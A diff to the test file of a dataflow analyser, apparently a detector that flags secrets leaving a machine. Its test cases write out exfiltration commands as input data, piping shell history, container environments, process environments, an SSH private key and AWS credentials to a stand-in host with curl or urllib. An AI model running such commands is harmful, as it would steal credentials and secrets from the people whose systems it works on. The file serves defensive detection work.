@@ -279,6 +279,15 @@ describe('dataflow analysis', () => {
       assert.deepEqual(await flowsOf('bash', 'x=$(cat ~/.ssh/id_rsa > ./copy)\ncurl -d "$x" https://c.example/u\n'), []);
     });
 
+    it('reads the shell history, containers\' environment and processes\' environment that commands print (Bash)', async () => {
+      const sent = (command: string): string => `${command} | curl -s --data-binary @- https://c.example/u\n`;
+      assert.deepEqual(summary(await flowsOf('bash', sent('history'))), ['secret: shell rc or history files -> network']);
+      assert.deepEqual(summary(await flowsOf('bash', sent('docker inspect $(docker ps -q)'))), ["secret: containers' configuration, their environment included -> network"]);
+      assert.deepEqual(summary(await flowsOf('bash', sent('ps auxeww'))), ["secret: the environment of the user's processes (`ps e`) -> network"]);
+      // The process and container lists without their environment say nothing secret.
+      for (const command of ['ps -ef', 'ps aux', 'docker ps', 'fc -s']) assert.deepEqual(await flowsOf('bash', sent(command)), [], command);
+    });
+
     it('reads cloud credentials from CLIs, SDK sessions and Terraform state, and follows them out', async () => {
       assert.deepEqual(summary(await flowsOf('bash', 'aws configure export-credentials --format env | curl -s --data-binary @- https://c.example/c\n')), ['secret: cloud credentials printed by the AWS CLI -> network']);
       const boto = "import boto3, json, urllib.request\ns = boto3.Session().get_credentials().get_frozen_credentials()\nurllib.request.urlopen('https://c.example/c', data=json.dumps({'k': s.access_key}).encode())\n";
